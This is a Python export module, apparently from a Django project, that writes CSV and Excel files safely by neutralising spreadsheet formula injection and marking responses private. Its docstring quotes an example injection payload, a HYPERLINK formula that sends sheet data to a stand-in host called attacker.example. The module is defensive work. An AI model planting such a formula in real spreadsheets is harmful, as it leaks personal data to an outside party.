"""The one writer of every CSV and Excel file the project sends (DESIGN.md, "Shape").

A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after a
tab or a carriage return, what follows) as a formula: a survey comment such as
``=HYPERLINK("http://attacker.example/?d="&A1,"Lihat lampiran")`` would become a live
link that leaks the sheet when a director clicks it (OWASP, "CSV Injection"). So every
*text* cell that starts with one of those characters is written with a single quote in
front (``'=HYPERLINK(...)``): the reader sees the text, nothing is evaluated. Numbers,
dates and times are written as what they are (a negative number is a number, not text),
and in a workbook a text cell is always stored as a string, never as a formula or an
error value, whatever it starts with.

An export holds personal data and is made for the person who asked: every response is
``Cache-Control: private, no-store`` and an attachment with a proper file name.

No other module writes CSV or XLSX (``core/tests/test_exports.py`` checks the source).
Use :func:`csv_response` and :func:`xlsx_response` with rows of plain values.
"""

from __future__ import annotations

import csv
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from datetime import date, datetime, time
from decimal import Decimal

from django.http import FileResponse, StreamingHttpResponse
from django.utils import timezone, translation
from django.utils.http import content_disposition_header

from core.time import WIB

__all__ = ["FORMULA_TRIGGERS", "Sheet", "cell", "csv_response", "xlsx_response"]

# The first characters that make a spreadsheet evaluate a cell (OWASP's list).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# A workbook is built in memory up to this size, then in a temporary file.
XLSX_SPOOL_BYTES = 4 * 1024 * 1024
_PLAIN = (bool, int, float, Decimal, date, time)


def cell(value: object) -> object:
    """``value`` as an export writes it: None, a number, a date or a time as itself
    (an aware moment in WIB, without the zone: spreadsheets have none); anything else
    as text, with a quote in front when it starts like a formula."""
    if value is None:
        return None
    if isinstance(value, datetime):
        return timezone.localtime(value, WIB).replace(tzinfo=None) if timezone.is_aware(value) else value
    if isinstance(value, _PLAIN):
        return value
    text = str(value)  # lazy translations, choices' labels, model instances
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def _private(response, filename: str):
    response["Content-Disposition"] = content_disposition_header(True, filename)
    response["Cache-Control"] = "private, no-store"
    return response


class _Echo:
    """csv.writer writes into this and gets the line back: rows go out as written."""

    def write(self, value: str) -> str:
        return value


def csv_response(rows: Iterable[Sequence[object]], *, filename: str) -> StreamingHttpResponse:
    """``rows`` as a streamed CSV file, UTF-8 with a BOM (Excel then reads it right).

    The rows are read while the response is sent, after the view has returned: they are
    read in the language that is active now."""
    writer = csv.writer(_Echo())
    language = translation.get_language()

    def lines() -> Iterator[str]:
        with translation.override(language):
            yield "\ufeff"
            for row in rows:
                yield writer.writerow(["" if value is None else value for value in map(cell, row)])

    return _private(StreamingHttpResponse(lines(), content_type=CSV_CONTENT_TYPE), filename)


@dataclass(frozen=True)
class Sheet:
    """One worksheet: its title (31 characters at most, Excel's limit) and its rows."""

    title: str
    rows: Iterable[Sequence[object]]


def _xlsx_cell(sheet, value: object):
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    value = cell(value)
    if isinstance(value, str):
        # Control characters XML cannot hold would fail the whole file: they go.
        written = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value))
        written.data_type = "s"  # text, never a formula ("=...") or an error ("#N/A")
        return written
    written = WriteOnlyCell(sheet, value=value)
    if isinstance(value, Decimal) and value.is_finite() and value.as_tuple().exponent < 0:
        written.number_format = "0." + "0" * -value.as_tuple().exponent  # 74.90 stays 74.90
    return written


def xlsx_response(sheets: Sequence[Sheet], *, filename: str) -> FileResponse:
    """``sheets`` as an Excel workbook, written row by row (openpyxl's write-only mode)
    into a temporary file that is then streamed."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    for sheet in sheets:
        target = workbook.create_sheet(str(sheet.title)[:31])
        for row in sheet.rows:
            target.append([_xlsx_cell(target, value) for value in row])
    spooled = tempfile.SpooledTemporaryFile(max_size=XLSX_SPOOL_BYTES)
    workbook.save(spooled)
    spooled.seek(0)
    return _private(FileResponse(spooled, content_type=XLSX_CONTENT_TYPE), filename)
